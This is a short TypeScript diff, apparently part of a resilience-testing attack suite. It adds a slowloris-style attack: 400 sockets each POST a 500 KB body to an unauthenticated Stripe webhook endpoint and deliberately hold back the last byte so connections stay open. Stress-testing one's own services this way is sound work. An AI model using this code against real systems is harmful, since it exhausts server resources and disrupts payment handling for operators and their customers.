@@ -14,3 +14,16 @@ export const withheldBytes: Attack = (target) =>
       socket.write(body)
     },
   })
+
+const notice = Buffer.alloc(500_000, 'a')
+
+/** 400 notices of payments, for which nobody needs a token, that withhold their last byte. */
+export const withheldNotices: Attack = (target) =>
+  keepSockets(target, {
+    sockets: 400,
+    begin: (socket) => {
+      const headers = { 'Content-Type': 'application/json', 'Content-Length': notice.length + 1 }
+      socket.write(head('POST /api/stripe/webhook', headers))
+      socket.write(notice)
+    },
+  })
